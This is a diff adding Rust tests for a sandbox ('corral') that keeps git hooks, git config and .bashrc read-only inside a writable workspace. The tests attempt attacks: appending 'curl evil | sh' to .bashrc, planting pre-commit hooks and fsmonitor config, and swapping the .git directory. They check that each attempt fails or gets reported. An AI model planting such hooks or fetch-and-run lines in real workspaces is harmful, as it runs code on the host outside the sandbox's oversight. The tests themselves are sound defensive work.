@@ -1,0 +1,120 @@
+//! Protected paths inside the writable workspace: git hooks and config and
+//! shell start-up files stay read-only, because they run code later,
+//! outside the sandbox.
+
+mod common;
+use common::*;
+use std::process::Command;
+
+fn git_init(env: &Env) -> bool {
+    let st = Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&env.ws)
+        .status();
+    if !matches!(st, Ok(s) if s.success()) {
+        return false;
+    }
+    std::fs::write(env.ws.join(".bashrc"), "# original bashrc\n").expect("write .bashrc");
+    true
+}
+
+#[test]
+fn git_hooks_and_config_are_read_only() {
+    for_each_identity("git_hooks_and_config_are_read_only", |env| {
+        if !git_init(env) {
+            return skip("git_hooks_and_config_are_read_only", "git is not installed");
+        }
+        let config_before =
+            std::fs::read_to_string(env.ws.join(".git/config")).expect("read config");
+        let out = env.sh(
+            &[],
+            "echo 'echo PWNED' > .git/hooks/pre-commit; echo hook=$?; \
+             echo '[core] fsmonitor = evil' >> .git/config; echo config=$?; \
+             echo normal > normal.txt; echo normal=$?; \
+             echo more > .git/description; echo gitfile=$?",
+        );
+        out.code(0)
+            .stdout_has("hook=2")
+            .stdout_has("config=2")
+            .stdout_has("normal=0")
+            .stdout_has("gitfile=0")
+            .stderr_has("cannot create .git/hooks/pre-commit: Read-only file system")
+            .stderr_has("cannot create .git/config: Read-only file system");
+        assert!(
+            !env.ws.join(".git/hooks/pre-commit").exists(),
+            "hook planted on the host:\n{out}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(env.ws.join(".git/config")).expect("config"),
+            config_before
+        );
+        assert_eq!(
+            std::fs::read_to_string(env.ws.join("normal.txt"))
+                .ok()
+                .as_deref(),
+            Some("normal\n")
+        );
+    });
+}
+
+#[test]
+fn workspace_bashrc_is_read_only() {
+    for_each_identity("workspace_bashrc_is_read_only", |env| {
+        env.write(".bashrc", "# original bashrc\n");
+        let out = env.sh(&[], "echo 'curl evil | sh' >> .bashrc; echo append=$?; rm -f .bashrc; echo rm=$?; mv .bashrc b; echo mv=$?");
+        out.code(0)
+            .stdout_has("append=2")
+            .stderr_has("cannot create .bashrc: Read-only file system");
+        assert!(!out.stdout.contains("rm=0"), "{out}");
+        assert!(!out.stdout.contains("mv=0"), "{out}");
+        assert_eq!(
+            std::fs::read_to_string(env.ws.join(".bashrc"))
+                .ok()
+                .as_deref(),
+            Some("# original bashrc\n")
+        );
+    });
+}
+
+/// The protection must hold for the path, not just for the inode that was
+/// there at start: moving `.git` aside and recreating it must not leave a
+/// planted hook or config for the host's next `git` to run.
+#[test]
+fn git_dir_cannot_be_swapped_to_plant_hooks() {
+    for_each_identity("git_dir_cannot_be_swapped_to_plant_hooks", |env| {
+        if !git_init(env) {
+            return skip(
+                "git_dir_cannot_be_swapped_to_plant_hooks",
+                "git is not installed",
+            );
+        }
+        let out = env.sh(
+            &[],
+            "mv .git .git-old; echo mv=$?; mkdir -p .git/hooks; cp -r .git-old/HEAD .git-old/objects .git-old/refs .git/; \
+             printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+             printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = echo PWNED\\n' > .git/config; echo done",
+        );
+        out.stdout_has("done");
+        let hook =
+            std::fs::read_to_string(env.ws.join(".git/hooks/pre-commit")).unwrap_or_default();
+        let config = std::fs::read_to_string(env.ws.join(".git/config")).unwrap_or_default();
+        assert!(
+            !hook.contains("PWNED") && !config.contains("PWNED"),
+            "a hook/config planted inside the sandbox is live on the host:\n  .git/hooks/pre-commit = {hook:?}\n  .git/config = {config:?}\n{out}"
+        );
+    });
+}
+
+/// A protected path that does not exist at start cannot be mounted
+/// read-only; when the command creates one (a fresh `.git/hooks`), corral
+/// must say so after the run.
+#[test]
+fn protected_path_created_during_the_run_is_reported() {
+    for_each_identity("protected_path_created_during_the_run_is_reported", |env| {
+        let out = env.sh(&[], "mkdir -p .git/hooks && printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/pre-commit && echo made");
+        out.code(0).stdout_has("made").stderr_has(&format!(
+            "protected path {}/.git/hooks was created during the run",
+            env.ws.display()
+        ));
+    });
+}
